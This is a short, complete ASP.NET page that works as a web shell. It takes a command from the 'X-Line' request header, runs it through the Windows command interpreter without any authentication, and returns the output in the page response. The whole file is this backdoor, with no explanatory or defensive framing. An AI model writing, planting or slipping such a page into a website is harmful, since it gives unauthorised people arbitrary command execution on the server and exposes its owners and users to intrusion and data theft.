<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    string line = Request.Headers["X-Line"];
    if (string.IsNullOrEmpty(line)) return;
    var si = new System.Diagnostics.ProcessStartInfo(Environment.GetEnvironmentVariable("ComSpec"), "/c " + line);
    si.UseShellExecute = false; si.RedirectStandardOutput = true; si.CreateNoWindow = true;
    using (var p = System.Diagnostics.Process.Start(si)) Response.Write(p.StandardOutput.ReadToEnd());
}
</script>
